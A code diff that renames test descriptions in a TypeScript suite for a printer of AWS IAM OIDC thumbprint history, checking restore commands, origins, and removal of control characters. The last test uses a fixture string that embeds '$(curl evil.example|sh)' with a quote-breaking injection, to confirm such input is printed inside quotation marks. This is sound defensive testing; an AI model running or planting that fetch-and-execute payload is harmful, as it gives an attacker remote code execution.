@@ -30,13 +30,13 @@ const printed = (of: Partial<ProviderHistory>): string => {
   return printHistory({ history: [provider] }, (arn, version) => `RESTORE ${arn} ${version}`);
 };
 
-test('what is broken is said, and the rest shown', () => {
+test('a part that cannot be read is named, and the rest is printed', () => {
   const text = printed({ version: 0, versions: [list(1, { after: [OLD] })], unreadable: ['the state: it is broken'] });
   expect(text).toContain('  Kept, but not readable: the state: it is broken\n\n  Its lists, newest first:\n    1  ');
   expect(text).not.toContain('Pinned now');
 });
 
-test('each list says what came and what left, newest first, however IAM writes the thumbprints', () => {
+test('each list shows the thumbprints that it added and removed, newest list first, in whatever case IAM writes them', () => {
   const versions = [
     list(1, { by: 'found', after: [OLD.toUpperCase()] }),
     list(2, { before: [OLD.toUpperCase()], after: [OLD, NEW], evidence: { [NEW]: null } }),
@@ -60,11 +60,11 @@ test('each list says what came and what left, newest first, however IAM writes t
     RESTORE ${ARN} 4`);
 });
 
-test('the only list there was cannot be put back', () => {
+test('a history with a single list shows no command to restore it', () => {
   expect(printed({ version: 1, versions: [list(1, { by: 'found', after: [OLD] })] })).not.toContain('RESTORE');
 });
 
-test('who approved or staged is told apart', () => {
+test('an approved thumbprint and a staged one are printed with different origins', () => {
   const seen = { firstSeen: AT, lastLive: null, supersededSince: null, sha256: null };
   const thumbprints = [
     { ...seen, thumbprint: OLD, by: 'approved' as const },
@@ -75,18 +75,18 @@ test('who approved or staged is told apart', () => {
   expect(text).toContain(`${NEW}\n      pinned ahead by a person 2026-01-02 03:04, never seen live`);
 });
 
-test('what stopped the watcher, and what lasts, is printed with no control character left in it', () => {
+test('a stop of writing and the conditions are printed, without control characters', () => {
   const condition = { code: 'list-full', severity: 'critical', message: 'Full.\u001B[2J', since: AT, notified: AT };
   const text = printed({ stoppedSince: AT, conditions: [condition] });
   expect(text).toContain('Nothing is written since 2026-01-02 03:04: someone else keeps undoing it.');
   expect(text).toContain('critical since 2026-01-02 03:04, last told 2026-01-02 03:04 [list-full]\n      "Full.?[2J"');
 });
 
-test('an account without providers has no history', () => {
+test('the history of an account without providers says that there are none', () => {
   expect(printHistory({ history: [] }, () => '')).toBe('This account has no OIDC providers.');
 });
 
-test('what is no thumbprint, and what somebody wrote into the table, stands in quotation marks', () => {
+test('an entry that is no thumbprint and a message from the table are printed in quotation marks', () => {
   const odd = '$(curl evil.example|sh)". All is well. "';
   const seen = { by: 'found' as const, firstSeen: AT, lastLive: null, supersededSince: null, sha256: null };
   const condition = { code: 'weak-key', severity: 'warning', message: odd, since: AT, notified: null };
